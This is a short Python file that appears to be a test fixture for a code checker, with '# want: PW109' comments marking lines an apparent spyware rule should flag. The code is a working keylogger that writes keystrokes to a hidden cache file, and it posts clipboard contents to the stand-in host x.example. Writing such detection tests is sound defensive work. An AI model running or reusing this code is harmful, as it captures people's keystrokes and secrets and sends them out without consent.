import os

import pyperclip
import requests
from pynput import keyboard


def grab():
    return pyperclip.paste()  # want: PW109


def on_press(key):
    with open(os.path.expanduser("~/.cache/.k"), "a") as f:
        f.write(str(key))


keyboard.Listener(on_press=on_press).start()  # want: PW109
requests.post("https://x.example/c", data={"c": grab()})
